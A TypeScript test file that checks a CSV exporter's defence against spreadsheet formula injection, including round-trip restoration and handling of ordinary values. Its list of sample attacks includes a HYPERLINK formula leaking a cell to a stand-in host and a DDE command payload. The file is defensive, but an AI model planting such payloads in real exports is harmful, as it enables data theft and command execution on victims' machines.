import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from './formula';
import { csvField, toCsv } from './parse-options';

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV injection', () => {
  it.each(ATTACKS)('a cell starting like a formula is written behind a single quote: %j', (value) => {
    expect(neutraliseCell(value)).toBe(`'${value}`);
    const field = csvField(value);
    // What a spreadsheet sees once the RFC 4180 quoting is removed: starts with the quote, not the trigger.
    const cell = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field;
    expect(cell.startsWith("'")).toBe(true);
  });

  it('every value comes back as typed, quotes of its own included', () => {
    for (const value of [...ATTACKS, "'=already quoted", "''+two quotes", "it's fine", "'plain", '', 'Brie', '2026-01-01', 'a=b', ' =space first']) {
      expect(restoreCell(neutraliseCell(value))).toBe(value);
    }
  });

  it('leaves ordinary text, numbers and JSON alone', () => {
    expect(csvField('Brie de Meaux')).toBe('Brie de Meaux');
    expect(csvField("it's")).toBe("it's");
    expect(csvField(-3)).toBe('-3');
    expect(csvField(['-a'])).toBe('"[""-a""]"');
    expect(toCsv([{ a: '=1', b: 'x' }], ['a', 'b'])).toBe("a,b\r\n'=1,x\r\n");
  });
});
